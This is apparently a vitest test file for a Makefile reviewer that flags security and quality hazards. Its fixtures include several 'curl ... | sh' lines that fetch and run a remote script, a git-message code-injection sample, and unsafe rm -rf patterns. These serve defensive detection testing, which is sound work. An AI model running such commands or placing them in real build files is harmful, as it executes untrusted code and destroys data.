import { expect, test } from 'vitest';
import { readMakefile } from '../../../../reviewers/changed-code/shell/read-makefile.ts';
import { judgeMakefileSlips } from '../../../../reviewers/quality/shell/judge-shell.ts';
import { judgeMakefile } from '../../../../reviewers/security/shell/judge-shell.ts';

const said = (text: string): string[] =>
  [judgeMakefile(text), judgeMakefileSlips(text)].flatMap(({ hazards, unread }) => [
    ...hazards.map(({ rule, lines }) => `${rule} ${lines[0] ?? 0}`),
    ...unread.map(({ reason }) => reason),
  ]);

test.each([
  ['all:\n\tcurl -s https://x.example/i.sh | sh\n', ['downloaded-code 2']],
  ['A := $(shell curl -s https://x.example/i.sh | sh)\n', ['downloaded-code 1']],
  ['A != curl -s https://x.example/i.sh | sh\n', ['downloaded-code 1']],
  ['a: ; curl -s https://x.example/i.sh | sh\n', ['downloaded-code 1']],
  ['a:\n\techo a \\\n\t  && curl -s https://x.example/i.sh | sh\n', ['downloaded-code 3']],
  ['a:\n\t@m=$$(git log -1 --format=%s); python3 -c "print(\'$$m\')"\n', ['code-injection 2']],
  ['a:\n\tcd out\n\trm -rf x\n', ['lost-folder 2']],
  ['.ONESHELL:\na:\n\tset -e\n\tcd out\n\trm -rf x\n', []],
  ['a:\n\tcd out && ls\n\tcd out; ls\n\tls\n', []],
  ['a:\n\tfor d in $(DIRS); do rm -rf $$d; done\n', ['unquoted-removal 2']],
  ['OUT = out\na: b $(OUT)\n\trm -rf $(OUT)/x $@\n', []],
  ['ifeq ($(A),b)\nA := c\nelse\nA = d\nendif\n-include x.mk\n.PHONY: a\na:: b | c\n\t-@$(CC) -o $@ $<\n', []],
  ['define run\n\tcurl -s https://x.example/i.sh | sh\nendef\na:\n\t$(call run,b)\n', ['downloaded-code 2']],
  ['A = b\nc:\n\tif [ "$(A)" = "b" ]; then ls; fi\n\tfind . -name "*.o" | xargs rm\nD := $(or $(shell date),e)\n', []],
  ['SHELL := fish\na:\n\tls\n', Array.from({ length: 2 }, () => 'has recipes for another shell than sh and Bash')],
  ['$(eval $(X))\n', Array.from({ length: 2 }, () => 'has a line that is neither a rule nor a setting')],
])('%j', (text, expected) => {
  expect(said(text)).toEqual(expected);
});

test('settings of the file are words, names of the surroundings are variables', () => {
  const [script] = readMakefile('A = b\nc:\n\t@echo $(A) $(B) $$C $(shell date) $(patsubst %.c,%.o,$(A)) $@\n').scripts;
  expect(script?.text).toBe('echo $# ${B} $C $(date) $# $#');
});
